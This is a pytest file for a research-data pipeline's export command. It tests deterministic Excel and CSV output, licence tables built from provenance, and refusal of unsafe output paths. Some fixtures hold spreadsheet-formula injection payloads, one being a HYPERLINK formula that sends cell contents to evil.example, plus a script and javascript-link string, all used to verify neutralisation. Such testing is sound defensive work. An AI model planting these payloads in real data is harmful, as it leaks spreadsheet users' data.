"""`techgap export`: every item's data in one workbook and in Excel-readable CSVs, same bytes every run;
and the data-terms table from provenance."""

from __future__ import annotations

import datetime as dt
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import add_vintage, fork, snapshot_dir, tree_digest

from techgap import cli
from techgap.config import load_project, load_yaml
from techgap.escaping import spreadsheet_cell
from techgap.export import UTF8_BOM, data_terms_table, find_item_tables
from techgap.io import write_csv

ITEM_CSV = (
    "entity_code,entity,entity_zh,indicator,period,value,unit,label\n"
    "CHN,China,中國,gerd_pct_gdp,2021,2.43,% of GDP,\n"
    "NAM,Namibia,納米比亞,gerd_pct_gdp,2022,0.5,% of GDP,NA\n"
    'USA,United States,美國,gerd_pct_gdp,2023Q3,3.46,% of GDP,"=HYPERLINK(""http://x"")"\n'
)


def _plant_figures(root: Path) -> dict[str, str]:
    """Item CSVs in both layouts (by edition and flat) plus top-level files that are not item data."""
    planted = {
        "report/fig01/fig01.csv": ITEM_CSV,
        "latest/fig01/fig01.csv": ITEM_CSV.replace("2.43", "2.55"),
        "tab02/tab02.csv": "rank,country,count\n1,美國,100\n",
        "claims.csv": "id,status\nc1,supported\n",
        "report/fig01/notes.csv": "not,item,data\n",
        ".staging-abc/fig09/fig09.csv": "a,job,still,drawing\n",
    }
    for relative, text in planted.items():
        path = root / "figures" / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return planted


def _export(root: Path, *options: object) -> int:
    return cli.main(["--root", str(root), "export", *[str(o) for o in options]])


def test_item_tables_are_found_in_report_order_then_edition(tmp_path):
    _plant_figures(tmp_path)
    tables = find_item_tables(tmp_path / "figures", ["fig01", "tab02"])
    assert [t.name for t in tables] == ["fig01_report", "fig01_latest", "tab02"]
    tables = find_item_tables(tmp_path / "figures", ["tab02", "fig01"])
    assert [t.name for t in tables] == ["tab02", "fig01_report", "fig01_latest"]


def test_workbook_has_a_sheet_per_item_and_edition_and_sources(project_root, tmp_path):
    import openpyxl

    _plant_figures(project_root)
    target = tmp_path / "techgap.xlsx"
    assert _export(project_root, "--xlsx", target) == 0

    workbook = openpyxl.load_workbook(target)
    assert workbook.sheetnames[:3] == ["fig01_report", "fig01_latest", "tab02"] and workbook.sheetnames[-1] == "sources"
    rows = list(workbook["fig01_report"].iter_rows(values_only=True))
    assert rows[0] == ("entity_code", "entity", "entity_zh", "indicator", "period", "value", "unit", "label")
    # a column of numbers is numbers; one that mixes 2021 and 2023Q3 stays text throughout
    assert rows[1] == ("CHN", "China", "中國", "gerd_pct_gdp", "2021", 2.43, "% of GDP", None)
    assert rows[2][0] == "NAM" and rows[2][-1] == "NA"  # a code that pandas would read as missing stays text
    assert rows[3][4] == "2023Q3"
    assert workbook["fig01_latest"]["F2"].value == 2.55
    assert list(workbook["tab02"].iter_rows(values_only=True)) == [("rank", "country", "count"), (1, "美國", 100)]
    formula_like = workbook["fig01_report"]["H4"]
    assert formula_like.value.startswith("=HYPERLINK") and formula_like.data_type == "s"


def test_sources_sheet_comes_from_provenance(project_root, tmp_path):
    import openpyxl

    _plant_figures(project_root)
    target = tmp_path / "techgap.xlsx"
    assert _export(project_root, "--xlsx", target) == 0
    rows = list(openpyxl.load_workbook(target)["sources"].iter_rows(values_only=True))
    header, records = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    body = {record["source"]: record for record in records if "latest" in record["editions"]}
    assert "licence" in header and "vintage" in header and "editions" in header
    assert set(body) == set(load_project(project_root).sources_with_vintages())
    folder = snapshot_dir(project_root, "oecd_msti")
    provenance = load_yaml(folder / "provenance.yaml")
    assert body["oecd_msti"]["licence"] == provenance["licence"]
    assert body["oecd_msti"]["vintage"] == folder.name


def test_the_sources_sheet_names_the_vintage_each_edition_reads(project_root, tmp_path):
    """A new ISSCC vintage: the latest edition's sheets read it, the report edition's its pinned one; the sources
    sheet has a row for each, so every sheet's rows can be traced to their vintage."""
    import openpyxl

    _plant_figures(project_root)
    new = add_vintage(project_root, "isscc")
    pinned = load_project(project_root).settings.report_pins()["isscc"]
    target = tmp_path / "techgap.xlsx"
    assert _export(project_root, "--xlsx", target) == 0
    rows = list(openpyxl.load_workbook(target)["sources"].iter_rows(values_only=True))
    isscc = {(row[1], row[2]) for row in rows[1:] if row[0] == "isscc"}
    assert rows[0][:3] == ("source", "editions", "vintage")
    assert isscc == {("report", pinned), ("latest", new.name)}


def test_two_exports_at_different_times_give_identical_bytes(project_root, tmp_path, monkeypatch):
    _plant_figures(project_root)
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert _export(project_root, "--xlsx", first) == 0
    real_time, real_datetime = time.time, dt.datetime

    class Later(dt.datetime):  # openpyxl's save() reads datetime.now() for the workbook's `modified`
        @classmethod
        def now(cls, tz=None):
            return real_datetime.now(tz) + dt.timedelta(days=3)

    monkeypatch.setattr(time, "time", lambda: real_time() + 3 * 86400)  # zip entries would carry the clock
    monkeypatch.setattr(dt, "datetime", Later)
    assert _export(project_root, "--xlsx", second) == 0
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(first) as archive:
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode("utf-8")
    newest = max(snapshot_dir(project_root, s).name for s in load_project(project_root).sources_with_vintages())
    assert f'<dcterms:modified xsi:type="dcterms:W3CDTF">{newest}T00:00:00Z</dcterms:modified>' in core


def test_csv_export_is_utf8_with_bom_and_otherwise_the_same_bytes(project_root, tmp_path):
    planted = _plant_figures(project_root)
    out = tmp_path / "csv"
    assert _export(project_root, "--csv-dir", out) == 0
    assert sorted(p.name for p in out.iterdir()) == ["fig01_latest.csv", "fig01_report.csv", "sources.csv", "tab02.csv"]
    data = (out / "fig01_report.csv").read_bytes()
    assert data.startswith(UTF8_BOM)
    planted_csv = planted["report/fig01/fig01.csv"]
    assert planted_csv.count('"=HYPERLINK(') == 1
    expected = planted_csv.replace('"=HYPERLINK(', "\"'=HYPERLINK(")
    assert data[len(UTF8_BOM) :].decode("utf-8") == expected, "the same bytes but for the formula's apostrophe"
    assert (out / "tab02.csv").read_bytes() == UTF8_BOM + planted["tab02/tab02.csv"].encode("utf-8")
    assert (out / "sources.csv").read_bytes().startswith(UTF8_BOM)
    assert "中國" in (out / "fig01_report.csv").read_text(encoding="utf-8-sig")


def test_export_without_a_target_or_without_figures_says_what_to_do(project_root, tmp_path, capsys):
    assert _export(project_root) == 2
    assert "--xlsx PATH and/or --csv-dir DIR" in capsys.readouterr().err
    assert _export(project_root, "--xlsx", tmp_path / "x.xlsx") == 2
    assert "build the figures first" in capsys.readouterr().err
    assert not (tmp_path / "x.xlsx").exists()


def test_data_terms_lists_each_source_once_with_its_licence(project_root):
    folder = snapshot_dir(project_root, "isscc")
    provenance = folder / "provenance.yaml"
    text = provenance.read_text(encoding="utf-8")
    licence = load_yaml(provenance)["licence"]
    provenance.write_text(text.replace(licence, "Terms A | terms B <script>x</script> [y](javascript:z)", 1), encoding="utf-8")

    table = data_terms_table(load_project(project_root)).splitlines()
    body = table[2:]
    assert len(body) == len(load_project(project_root).sources_with_vintages())
    isscc = next(line for line in body if line.startswith("| isscc |"))
    assert "Terms A \\| terms B \\<script>x\\</script> [y\\](javascript:z)" in isscc  # text, not HTML or a link
    assert all(line.count(" | ") == 3 for line in body)  # the escaped pipe does not add a column


@pytest.mark.parametrize("source_id", ["oecd_msti", "nbs_rd"])
def test_data_terms_licence_matches_provenance(project_root, source_id):
    licence = load_yaml(snapshot_dir(project_root, source_id) / "provenance.yaml")["licence"]
    row = next(line for line in data_terms_table(load_project(project_root)).splitlines() if line.startswith(f"| {source_id} |"))
    assert licence.replace("|", "\\|").replace("\n", " ") in row


# --- cells a spreadsheet would run ---------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-1+A1",
    "=1+1",
    "\t=1+1",
    "-",
    "-inf",
]
NUMBERS = ["-3.5", "-0", "0", "+1", "1e-05", "-2.5E+10", ".5", "12"]
TEXT = ["中國", "R&D, 50%", 'say "hi"', "a=b", "NA", ""]


@pytest.mark.parametrize("cell", [*FORMULAS, "\r=1+1"])  # a CR is no cell of the pipeline's CSVs: its writer would not quote it
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", NUMBERS + TEXT)
def test_numbers_and_ordinary_text_are_left_as_they_are(cell: str) -> None:
    assert spreadsheet_cell(cell) == cell


def _hostile_item(root: Path) -> pd.DataFrame:
    """fig01's data as the pipeline writes it (techgap.io.write_csv), with labels a spreadsheet would run
    and negative numbers, -0 among them."""
    labels = FORMULAS + TEXT
    frame = pd.DataFrame(
        {
            "entity_code": ["CHN"] * len(labels),
            "value": [-3.5, -0.0, 1e-05, 2.43, -150.0, 0.0, 12.0, 0.5, -2.0, 7.0, 8.0, 9.0, 10.0, 11.0],
            "label": labels,
        }
    )
    write_csv(root / "figures" / "report" / "fig01" / "fig01.csv", frame)
    return frame


def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(project_root, tmp_path):
    import csv

    frame = _hostile_item(project_root)
    provenance = snapshot_dir(project_root, "isscc") / "provenance.yaml"
    text = provenance.read_text(encoding="utf-8")
    title = load_yaml(provenance)["title"]
    provenance.write_text(text.replace(f"title: {title}\n", "title: '@SUM(1+1)'\n", 1), encoding="utf-8")
    out = tmp_path / "csv"
    assert _export(project_root, "--csv-dir", out) == 0

    with open(project_root / "figures" / "report" / "fig01" / "fig01.csv", encoding="utf-8", newline="") as handle:
        item = list(csv.reader(handle))
    assert [row[1] for row in item[1:4]] == ["-3.5", "-0", "1e-05"]  # as the pipeline writes negative numbers
    with open(out / "fig01_report.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["entity_code", "value", "label"]
    assert [row[2] for row in rows[1:]] == ["'" + cell for cell in FORMULAS] + TEXT
    assert [row[1] for row in rows] == [row[1] for row in item], "numbers, negative ones and -0 included, stay numbers"
    assert len(rows) - 1 == len(frame)
    with open(out / "sources.csv", encoding="utf-8-sig", newline="") as handle:
        sources = {row["source"]: row for row in csv.DictReader(handle)}
    assert sources["isscc"]["title"] == "'@SUM(1+1)"
    for path in out.iterdir():  # no cell of any exported CSV starts a formula, unless it is a number
        with open(path, encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or spreadsheet_cell(cell) == cell, (path, cell)


def test_workbook_stores_formula_like_text_as_text(project_root, tmp_path):
    """In a workbook a text cell is typed: it never runs. The workbook keeps the text as it is, without
    the CSVs' apostrophe, and has no formula at all."""
    import openpyxl

    _hostile_item(project_root)
    target = tmp_path / "techgap.xlsx"
    assert _export(project_root, "--xlsx", target) == 0
    with zipfile.ZipFile(target) as archive:
        sheets = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    cells = list(openpyxl.load_workbook(target)["fig01_report"].iter_rows(min_row=2))
    labels = [row[2] for row in cells]
    assert [cell.value for cell in labels[: len(FORMULAS)]] == FORMULAS
    assert {cell.data_type for cell in labels[: len(FORMULAS)]} == {"s"}
    assert [row[1].value for row in cells[:2]] == [-3.5, 0]


# --- where exports may go ------------------------------------------------------------------------


def _symlink(link: Path, target: Path) -> Path:
    link.symlink_to(target)
    return link


REFUSED = {
    "xlsx_over_the_manifest": (lambda root, tmp: ["--xlsx", "figures/manifest.json"], "inside figures/"),
    "xlsx_in_data": (lambda root, tmp: ["--xlsx", root / "data" / "techgap.xlsx"], "inside data/"),
    "xlsx_dot_dot_into_figures": (lambda root, tmp: ["--xlsx", root / "config" / ".." / "figures" / "t.xlsx"], "inside figures/"),
    "xlsx_symlink_to_the_manifest": (
        lambda root, tmp: ["--xlsx", _symlink(tmp / "t.xlsx", root / "figures" / "manifest.json")],
        "inside figures/",
    ),
    "xlsx_in_a_symlinked_folder": (
        lambda root, tmp: ["--xlsx", _symlink(tmp / "out", root / "figures") / "t.xlsx"],
        "inside figures/",
    ),
    "xlsx_not_a_workbook_name": (lambda root, tmp: ["--xlsx", tmp / "README.md"], "does not end in .xlsx"),
    "xlsx_is_a_folder": (lambda root, tmp: ["--xlsx", _mkdir(tmp / "book.xlsx")], "is a folder"),
    "csv_dir_among_the_outputs": (lambda root, tmp: ["--csv-dir", "figures/report/fig01"], "inside figures/"),
    "csv_dir_new_folder_in_figures": (lambda root, tmp: ["--csv-dir", root / "figures" / "export"], "inside figures/"),
    "csv_dir_new_folder_in_data": (lambda root, tmp: ["--csv-dir", root / "data" / "export"], "inside data/"),
    "csv_dir_in_a_symlinked_folder": (
        lambda root, tmp: ["--csv-dir", _symlink(tmp / "out", root / "data") / "csv"],
        "inside data/",
    ),
    "csv_dir_not_empty": (lambda root, tmp: ["--csv-dir", _mkdir(tmp / "full", "keep.txt")], "already exists and is not empty"),
    "csv_dir_is_a_file": (lambda root, tmp: ["--csv-dir", _mkdir(tmp / "full", "keep.txt") / "keep.txt"], "is a file"),
    "xlsx_inside_the_new_csv_dir": (
        lambda root, tmp: ["--xlsx", tmp / "csv" / "t.xlsx", "--csv-dir", tmp / "csv"],
        "inside --csv-dir",
    ),
    "good_xlsx_with_a_bad_csv_dir": (
        lambda root, tmp: ["--xlsx", tmp / "t.xlsx", "--csv-dir", root / "figures" / "report"],
        "inside figures/",
    ),
}


def _mkdir(folder: Path, *files: str) -> Path:
    folder.mkdir(parents=True)
    for name in files:
        (folder / name).write_text("mine\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize("case", list(REFUSED))
def test_export_to_the_pipelines_folders_or_over_other_files_is_refused(case, project_root, tmp_path, monkeypatch, capsys):
    """`--xlsx figures/manifest.json` replaced the manifest (and the next snakemake had nothing to do);
    `--csv-dir figures/report/fig01` put 59 CSVs among the outputs. Each is refused with one line that
    says what is allowed, and nothing under figures/, data/ or the refused folder changes."""
    _plant_figures(project_root)
    (project_root / "figures" / "manifest.json").write_text('{"items": []}\n', encoding="utf-8")
    monkeypatch.chdir(project_root)  # the commands are typed in the project folder
    options, message = REFUSED[case]
    options = options(project_root, tmp_path)
    before = tree_digest(project_root / "figures", project_root / "data", tmp_path)
    capsys.readouterr()

    assert _export(project_root, *options) == 2
    err = capsys.readouterr().err
    assert message in err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: export: "), err
    assert "outside the project's figures/ and data/" in lines[0], "the error says what is allowed"
    assert tree_digest(project_root / "figures", project_root / "data", tmp_path) == before


def test_export_to_new_or_empty_folders_and_xlsx_files_outside_is_allowed(project_root, tmp_path, monkeypatch):
    import openpyxl

    _plant_figures(project_root)
    workbook = tmp_path / "techgap.xlsx"
    workbook.write_bytes(b"an earlier export")  # a workbook outside is replaced
    empty = _mkdir(tmp_path / "empty")
    assert _export(project_root, "--xlsx", workbook, "--csv-dir", empty) == 0
    assert openpyxl.load_workbook(workbook).sheetnames[-1] == "sources"
    assert (empty / "sources.csv").is_file()
    assert _export(project_root, "--csv-dir", tmp_path / "new" / "nested" / "csv") == 0
    assert (tmp_path / "new" / "nested" / "csv" / "fig01_report.csv").is_file()
    monkeypatch.chdir(tmp_path)  # relative paths are taken from where the command is typed
    assert _export(project_root, "--xlsx", "relative.xlsx", "--csv-dir", "relative") == 0
    assert (tmp_path / "relative.xlsx").is_file() and (tmp_path / "relative" / "tab02.csv").is_file()
    assert _export(project_root, "--csv-dir", "relative") == 2, "a second export into the same folder is refused"


YEARS_ONLY_CSV = (
    "entity_code,entity,entity_zh,category,indicator,period,value,unit,label,label_en,flag,source,document,vintage,line\n"
    "CHN,China,中國,,rd_expenditure,2021,27956.3,100 million RMB,2019,,,nbs_rd,nbs_comm_2021,2026-11-27,40\n"
    "CHN,China,中國,,rd_expenditure,2022,30782.9,100 million RMB,,,,nbs_rd,nbs_comm_2022,2026-11-27,44\n"
)


def test_period_is_text_in_the_export_when_every_period_is_a_year(project_root, tmp_path):
    """A year-only item (fig01): `period` 2021 is text in the item CSV and the Parquet files, so it is a text cell in
    the workbook and text when the export reads it; numbers stay numbers."""
    import openpyxl

    from techgap.export import read_item_table

    path = project_root / "figures" / "report" / "fig01" / "fig01.csv"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(YEARS_ONLY_CSV, encoding="utf-8")
    frame = read_item_table(path)
    assert frame["period"].tolist() == ["2021", "2022"] and frame["label"].tolist()[0] == "2019"
    assert frame["value"].dtype.kind == "f" and frame["line"].tolist() == [40, 44]
    assert pd.read_csv(path)["period"].dtype.kind == "i"  # what a type-guessing reader would have made of it

    target = tmp_path / "techgap.xlsx"
    assert _export(project_root, "--xlsx", target) == 0
    sheet = openpyxl.load_workbook(target)["fig01_report"]
    header = [cell.value for cell in sheet[1]]
    period = sheet.cell(row=2, column=header.index("period") + 1)
    assert (period.value, period.data_type) == ("2021", "s")
    label = sheet.cell(row=2, column=header.index("label") + 1)
    assert (label.value, label.data_type) == ("2019", "s")
    value = sheet.cell(row=2, column=header.index("value") + 1)
    assert (value.value, value.data_type) == (27956.3, "n")


def test_the_project_reads_every_published_period_as_text(built_project):
    """Item CSVs of both editions as the export reads them, and the series table as published: `period` is text."""
    from techgap.export import find_item_tables, read_item_table

    for table in find_item_tables(built_project / "figures"):
        frame = read_item_table(table.path)
        if "period" in frame:
            assert all(isinstance(p, str) for p in frame["period"].dropna()), table.name
    series = pd.read_parquet(built_project / "figures" / "data" / "series.parquet")
    assert series["period"].map(type).eq(str).all()


def test_tab07s_year_on_year_changes_are_in_its_csv_and_export_as_printed(built_project, tmp_path):
    """Every change tab07 prints is a row of its data (computed by its derive step), in both editions, and in the
    workbook; the printed change is that value rounded."""
    import openpyxl

    root = fork(built_project, tmp_path / "project")
    for edition in ("report", "latest"):
        data = pd.read_csv(root / "figures" / edition / "tab07" / "tab07.csv", dtype={"period": str})
        changes = data[data["indicator"] == "semi_equipment_billings_yoy_computed"].dropna(subset=["value"])
        levels = data[data["indicator"] == "semi_equipment_billings"].set_index(["entity_code", "period"])["value"]
        column = _markdown_column((root / "figures" / edition / "tab07" / "tab07_en.md").read_text(encoding="utf-8"))
        printed = {region: change for region, change in column.items() if change != "—"}  # '—': no year-before value
        assert len(column) == 8 and len(changes) == len(printed), edition
        assert edition == "latest" or len(printed) == 8  # the pinned report edition prints every region's change
        for row in changes.itertuples():
            before = levels[(row.entity_code, f"{int(row.period[:4]) - 1}{row.period[4:]}")]
            assert row.value == pytest.approx(100 * (levels[(row.entity_code, row.period)] / before - 1), rel=1e-9)
            assert set(changes["unit"]) == {"percent"} and set(changes["source"]) == {"techgap"}
        printed_as = sorted(f"{v:,.0f}".replace("-", "\u2212") for v in changes["value"])  # a minus sign, not a hyphen
        assert printed_as == sorted(printed.values())
    target = tmp_path / "techgap.xlsx"
    assert _export(root, "--xlsx", target) == 0
    rows = list(openpyxl.load_workbook(target)["tab07_latest"].iter_rows(values_only=True))
    indicator = rows[0].index("indicator")
    assert sum(1 for r in rows[1:] if r[indicator] == "semi_equipment_billings_yoy_computed") == len(
        data[data["indicator"] == "semi_equipment_billings_yoy_computed"]
    )


def _markdown_column(text: str) -> dict[str, str]:
    """Region -> the YoY column of a tab07 Markdown table."""
    lines = [line for line in text.splitlines() if line.startswith("| ")]
    header = [cell.strip() for cell in lines[0].strip("|").split("|")]
    column = header.index("YoY change (%)")
    return {cells[0]: cells[column] for cells in ([c.strip() for c in line.strip("|").split("|")] for line in lines[1:])}
